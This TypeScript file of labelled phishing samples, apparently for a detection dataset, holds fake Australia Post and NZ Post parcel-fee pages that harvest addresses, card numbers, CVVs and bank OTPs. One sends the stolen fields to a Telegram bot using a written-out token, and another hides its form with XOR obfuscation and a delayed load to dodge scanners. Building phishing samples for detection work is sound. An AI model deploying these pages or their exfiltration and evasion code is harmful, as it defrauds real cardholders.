import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { shell, baseCss, mark, xorB64, xorDecoder, telegramDrop, cardFields, json } from '../parts/xd-kit.js';

export const entries: Entry[] = [
{
  id: 'xd-auspost-chinese-held-parcel',
  label: 'phishing',
  kind: 'parcel-fee-card-kit',
  url: 'https://auspost-cn.clearance-fee.shop/zh/parcel/held',
  body: shell(
    '澳大利亚邮政 - 包裹待处理',
    `<header class="top" style="background:#dc1928;color:#fff">${mark.auspost(34)}<b>澳大利亚邮政 Australia Post</b></header>
<main style="max-width:520px">
 <h1 style="font-size:21px">您的包裹因地址信息不完整已被暂扣</h1>
 <p>运单号：<b>AP8826601934CN</b>。请在 <b>24 小时</b>内更新收件地址并支付 <b>$3.00</b> 重新派送费，否则包裹将被退回寄件人。</p>
 <form id="zh">
  <label>收件人姓名</label><input name="name" required>
  <label>详细地址</label><input name="address" required>
  <label>城市 / 邮编</label><input name="city" required>
  <label>手机号码</label><input name="phone" type="tel" required>
  ${cardFields({ holder: 'cardholder', number: 'cardno', exp: 'expiry', cvv: 'cvv' }, { holder: '持卡人姓名', number: '银行卡号', exp: '有效期 (MM/YY)', cvv: '安全码 CVV' })}
  <button style="margin-top:16px;background:#dc1928;width:100%">立即支付 $3.00</button>
 </form>
 <p class="muted">© 澳大利亚邮政 版权所有</p>
</main>
<script>
document.getElementById('zh').addEventListener('submit', function (e) {
  e.preventDefault();
  var data = Object.fromEntries(new FormData(this));
  data.lang = 'zh'; data.ip_hint = Intl.DateTimeFormat().resolvedOptions().timeZone;
  fetch('/zh/api/save', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(data) })
    .then(function (r) { return r.json(); })
    .then(function (r) { if (r.next) location.href = r.next; });
});
</script>`,
    { lang: 'zh-CN', css: baseCss('#dc1928', '#222', '#dc1928') },
  ),
  routes: {
    'auspost-cn.clearance-fee.shop/zh/api/save': json({ ok: 1, next: '/zh/parcel/verify-otp' }),
    'auspost-cn.clearance-fee.shop/zh/parcel/verify-otp': htmlRoute(
      shell('澳大利亚邮政 - 验证', `<main><h2>银行验证</h2><p>请输入发送到您手机的6位验证码以完成支付。</p><form method="post" action="/zh/api/otp"><input name="otp" type="tel" maxlength="6" required><button style="margin-top:12px;background:#dc1928">确认</button></form></main>`, { lang: 'zh-CN', css: baseCss('#dc1928') }),
    ),
  },
},
{
  id: 'xd-nzpost-kiaora-depot-fee',
  label: 'phishing',
  kind: 'parcel-fee-card-kit',
  url: 'https://nzpost-co-nz.parcelhold.cfd/redelivery/NZ4471902',
  body: shell(
    'NZ Post | Kia ora – parcel on hold',
    `<header class="top" style="background:#e4002b">${mark.nzpost(32)}<span style="color:#fff;margin-left:auto">Kia ora</span></header>
<main style="max-width:520px">
 <h1 style="font-size:22px">Kia ora, your parcel is on hold at our depot</h1>
 <p>Tracking number <b>NZ4471902</b>. We tried to deliver your parcel but the address label was damaged. To arrange redelivery, pay a handling fee of <b>NZ$2.49</b>.</p>
 <p class="muted">He kōrero whakamārama: ka whakahokia te pēke ki te kaituku mēnā kāore e utua i roto i ngā rā e 2.</p>
 <form id="np">
  <label>Name</label><input name="name" required>
  <label>Delivery address</label><input name="address" required>
  <label>Mobile</label><input name="mobile" type="tel" placeholder="02x xxx xxxx" required>
  ${cardFields({ holder: 'holder', number: 'number', exp: 'expiry', cvv: 'cvc' })}
  <button style="margin-top:16px;background:#e4002b">Pay NZ$2.49</button>
 </form>
</main>
<footer>NZ Post · Ngā mihi nui</footer>
<script>
document.getElementById('np').onsubmit = function (e) {
  e.preventDefault();
  ${telegramDrop({ token: '7092218846:AAEvZk1oQh9FxR0mNcY4pLsT2wUbD7jgKqI', chat: '-1002287719304', tag: '🇳🇿 NZPOST', fields: ['name', 'address', 'mobile', 'holder', 'number', 'expiry', 'cvc'], after: "document.body.innerHTML='<main><h2>Ngā mihi! Payment processing…</h2></main>';setTimeout(function(){location.href='https://www.nzpost.co.nz/'},3000)" })}
};
</script>`,
    { lang: 'en-NZ', css: baseCss('#e4002b', '#222', '#e4002b') },
  ),
},
{
  id: 'xd-auspost-vietnamese-delayed-xor',
  label: 'phishing',
  kind: 'parcel-fee-card-kit',
  url: 'https://auspost-vn.giaohang-au.icu/vn/goi-hang',
  body: shell(
    'Bưu điện Úc',
    `<div id="c" style="font-family:Arial;text-align:center;margin-top:80px;color:#777">Đang tải…</div>
<script>
${xorDecoder('un')}
setTimeout(function () {
  document.getElementById('c').outerHTML = un('${xorB64(
    `<header class="top" style="background:#dc1928;color:#fff">${mark.auspost(32)}<b>Bưu điện Úc · Australia Post</b></header>
<main style="max-width:520px"><h1 style="font-size:21px">Gói hàng của bạn không thể giao</h1>
<p>Gói hàng số <b>AP55019283VN</b> đang bị giữ tại kho do thiếu thông tin địa chỉ. Vui lòng cập nhật và thanh toán phí giao lại <b>$2.95</b> trong vòng 24 giờ.</p>
<form method="post" action="https://auspost-vn.giaohang-au.icu/vn/xuly.php">
<label>Họ và tên</label><input name="hoten" required><label>Địa chỉ</label><input name="diachi" required><label>Số điện thoại</label><input name="sdt" type="tel" required>
${cardFields({ holder: 'chuthe', number: 'sothe', exp: 'hethan', cvv: 'cvv' }, { holder: 'Tên chủ thẻ', number: 'Số thẻ', exp: 'Ngày hết hạn', cvv: 'Mã CVV' })}
<button style="margin-top:16px;background:#dc1928;width:100%">Thanh toán $2.95</button></form></main>`,
    'vn24',
  )}', 'vn24');
}, 1500);
</script>`,
    { lang: 'vi', css: baseCss('#dc1928', '#222', '#dc1928') },
  ),
},
];
